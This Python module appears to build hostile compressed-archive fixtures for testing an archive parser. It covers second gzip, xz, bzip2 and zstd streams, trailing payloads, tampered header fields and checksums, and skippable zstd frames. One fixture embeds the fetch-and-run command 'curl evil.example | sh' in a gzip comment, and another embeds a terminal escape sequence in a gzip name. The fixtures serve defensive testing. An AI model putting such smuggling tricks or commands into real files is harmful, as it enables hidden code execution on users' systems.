"""Hostile gzip, xz, bzip2 and zstd streams around a plain tar."""

from __future__ import annotations

import bz2
import gzip
import lzma
import struct
import sys
import zlib

from archive.attacks import attack
from archive.tar_bytes import END, member
from archive.zip_bytes import deflate

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

TAR = member() + END
SECOND = member(b"p-1/setup.py", b"evil") + END


def gzip_with(flags: int, fields: bytes, *, crc: bool = False) -> bytes:
    """A gzip file with optional header fields."""
    header = b"\x1f\x8b\x08" + bytes([flags | (2 if crc else 0)]) + bytes(6) + fields
    checksum = struct.pack("<H", zlib.crc32(header) & 0xFFFF) if crc else b""
    return header + checksum + deflate(TAR) + struct.pack("<II", zlib.crc32(TAR), len(TAR))


@attack("gzip-second-member")
def a_second_archive_behind_the_first() -> bytes:
    return gzip.compress(TAR) + gzip.compress(SECOND)


@attack("gzip-trailing")
def a_payload_behind_the_gzip_stream() -> bytes:
    return gzip.compress(TAR) + b"#!/bin/sh\n"


@attack("gzip-trailing")
def zeros_behind_the_gzip_stream() -> bytes:
    return gzip.compress(TAR) + bytes(512)


@attack("gzip-extra-field")
def a_payload_in_the_gzip_extra_field() -> bytes:
    return gzip_with(4, struct.pack("<H", 8) + b"XX\4\0evil")


@attack("gzip-comment")
def a_payload_in_the_gzip_comment() -> bytes:
    return gzip_with(16, b"curl evil.example | sh\0")


@attack("gzip-name")
def an_escape_sequence_in_the_gzip_name() -> bytes:
    return gzip_with(8, b"\x1b]0;evil\x07\0")


@attack("gzip-reserved-flags")
def a_flag_of_the_future() -> bytes:
    return gzip_with(0x20, b"")


@attack("gzip-header-crc")
def a_gzip_name_that_was_exchanged() -> bytes:
    return gzip_with(8, b"a.tar\0", crc=True).replace(b"a.tar", b"b.tar")


@attack("gzip-checksum")
def a_gzip_trailer_of_another_content() -> bytes:
    return gzip.compress(TAR)[:-8] + bytes(8)


@attack("xz-second-stream")
def a_second_xz_stream() -> bytes:
    return lzma.compress(TAR) + lzma.compress(SECOND)


@attack("xz-trailing")
def xz_stream_padding() -> bytes:
    return lzma.compress(TAR) + bytes(4)


@attack("bzip2-second-stream")
def a_second_bzip2_stream() -> bytes:
    return bz2.compress(TAR) + bz2.compress(SECOND)


@attack("bzip2-trailing")
def a_payload_behind_the_bzip2_stream() -> bytes:
    return bz2.compress(TAR) + b"evil"


@attack("zstd-second-frame")
def a_second_zstd_frame() -> bytes:
    return zstd.compress(TAR) + zstd.compress(SECOND)


@attack("zstd-skippable-frame")
def a_payload_in_a_frame_that_is_skipped() -> bytes:
    return struct.pack("<II", 0x184D2A50, 4) + b"evil" + zstd.compress(TAR)


@attack("zstd-trailing")
def a_payload_behind_the_zstd_frame() -> bytes:
    return zstd.compress(TAR) + b"evil"
